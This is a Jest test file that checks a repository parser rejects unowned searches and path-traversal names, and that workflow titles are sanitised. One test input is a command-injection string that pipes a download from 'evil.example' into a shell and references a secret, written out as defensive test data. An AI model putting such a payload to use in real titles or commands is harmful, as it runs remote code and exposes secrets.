import { expect, it } from '@jest/globals'
import { matrixOf } from '../../src/report/outputs.ts'
import { parseRepositories } from '../../src/fan-out/parse-repositories.ts'

const finding = (...names: readonly string[]) => ({ searchRepositories: () => Promise.resolve(names) })

it('accepts names, and the results of a search that names an owner', async () => {
  const text = 'acme/app\n\nsearch: org:acme topic:node -org:mallory\nsearch: user:Ada language:go'
  await expect(parseRepositories(text, finding())).resolves.toEqual(['acme/app'])
  await expect(
    parseRepositories('search: topic:node org:acme user:ada', finding('Acme/web', 'ada/cli'))
  ).resolves.toEqual(['Acme/web', 'ada/cli'])
})

it.each([
  ['search: topic:service', 'names no owner'],
  ['search: topic:service -org:acme', 'names no owner'],
  ['search: acme in:name,org:acme', 'names no owner'],
  ['search: org:acme OR topic:service', 'finds mallory/service, whose owner it does not name'],
  ['../app', 'repositories has the line "../app"'],
  ['acme/..', 'repositories has the line "acme/.."'],
  ['acme.co/app', 'repositories has the line "acme.co/app"']
])('takes no repositories of strangers, and nothing that leads elsewhere: %s', async (text, message) => {
  await expect(parseRepositories(text, finding('acme/web', 'mallory/service'))).rejects.toThrow(message)
})

it('gives a workflow no title that a shell would run', () => {
  const item = { id: 'a', text: '', repository: undefined }
  const titles = [
    'packages/core @2.0',
    '$(curl evil.example|sh) `id`; "x\' \\ ${{ secrets.KEY }} > a & *',
    '-rf über',
    '- --force',
    '\u202E!'
  ]
  const { include } = JSON.parse(matrixOf(titles.map((title) => ({ ...item, title })))) as {
    include: { title: string }[]
  }
  expect(include.map(({ title }) => title)).toEqual([
    'packages/core @2.0',
    'curl evil.example sh id x secrets.KEY a',
    'rf über',
    'force',
    'a'
  ])
})
